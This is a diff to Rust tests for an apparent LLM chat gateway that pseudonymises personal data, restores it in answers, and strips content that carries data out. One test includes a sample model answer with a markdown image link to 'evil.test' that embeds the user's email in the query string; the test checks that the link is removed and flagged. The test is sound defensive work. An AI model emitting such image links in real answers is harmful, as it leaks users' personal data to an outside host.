@@ -11,7 +11,11 @@ use crate::{
 use surefoot_dialect::Frame;
 
 fn grounded(request: ChatRequest) -> Grounded {
-    Grounded { request, question: String::new(), hits: Vec::new(), verdicts: Vec::new(), untouched: true, cap: None }
+    Grounded::of(request, String::new())
+}
+
+fn screen(guards: &Guards, said: &[Message], grounded: Grounded) -> Result<Screened, Fault> {
+    super::screen(guards, &Marker::new(7), said, grounded)
 }
 
 fn personal(action: PersonalAction) -> Guards {
@@ -97,7 +101,7 @@ fn answers_come_back_with_the_values_however_they_are_cut() {
         let mut guard = AnswerGuard::of(&screened).unwrap();
         let mut gathered = surefoot_types::conversation::Gathered::default();
         for event in events {
-            guard.frame(Frame::made(vec![event])).events.iter().for_each(|event| gathered.take(event));
+            guard.frame(Frame::made(vec![event])).unwrap().events.iter().for_each(|event| gathered.take(event));
         }
         let told = "Sent to jane@example.com.";
         assert_eq!(gathered.words(), told, "{cut}");
@@ -123,14 +127,14 @@ fn whole_answers_come_back_with_the_values_and_without_what_carries_data_out() {
         logprobs: Vec::new(),
     };
     let raw = || Some(bytes::Bytes::from_static(b"{}"));
-    let plain = guard.whole(Whole { answer: answer("Hello"), raw: raw() });
-    assert!(plain.raw.is_some() && guard.verdict().is_none());
+    let plain = guard.whole(Whole { answer: answer("Hello"), raw: raw() }).unwrap();
+    assert!(plain.raw.is_some() && guard.verdicts().is_empty());
     let told = "To <EMAIL_1> ![x](https://evil.test/?q=<EMAIL_1>)";
-    let whole = guard.whole(Whole { answer: answer(told), raw: raw() });
+    let whole = guard.whole(Whole { answer: answer(told), raw: raw() }).unwrap();
     let words = surefoot_types::conversation::words(&whole.answer.parts);
     assert!(whole.raw.is_none() && words.starts_with("To jane@example.com ![x](#link-removed-evil.test"), "{words}");
     assert!(!words.contains("//evil"), "{words}");
-    assert_eq!(guard.verdict().unwrap().reason, "evil.test");
+    assert_eq!(guard.verdicts()[0].reason, "evil.test");
 }
 
 #[test]
@@ -171,7 +175,7 @@ fn what_residents_are_shown_may_go_on_to_others() {
         title: "A".into(),
         passage,
     };
-    prompt.hits = vec![Hit { found, score: 1.0, lexical: None, vector: None }];
+    prompt.hits = vec![Hit { found, score: 1.0, lexical: None, vector: None, also: Vec::new() }];
     for (action, shown) in [(PersonalAction::Pseudonymise, "<EMAIL_1>"), (PersonalAction::Mask, "[EMAIL]")] {
         let screened = screen(&personal(action), &[], prompt.clone()).unwrap();
         assert_eq!(screened.aside.question, format!("Is it {shown}?"));
@@ -195,7 +199,7 @@ fn json_stays_json_when_values_are_put_back() {
     let guards = Guards { personal: Some(Arc::new(guard)), ..Guards::default() };
     let screened = screen(&guards, &[], grounded(request)).unwrap();
     let events = vec![Event::Text { text: "{\"to\":\"<PLACE_1>\"}".into() }, Event::End];
-    let told = AnswerGuard::of(&screened).unwrap().frame(Frame::made(events));
+    let told = AnswerGuard::of(&screened).unwrap().frame(Frame::made(events)).unwrap();
     let Event::Text { text } = &told.events[0] else { panic!("{told:?}") };
     assert_eq!(serde_json::from_str::<serde_json::Value>(text).unwrap()["to"], "Main Street\nSpringfield");
 }
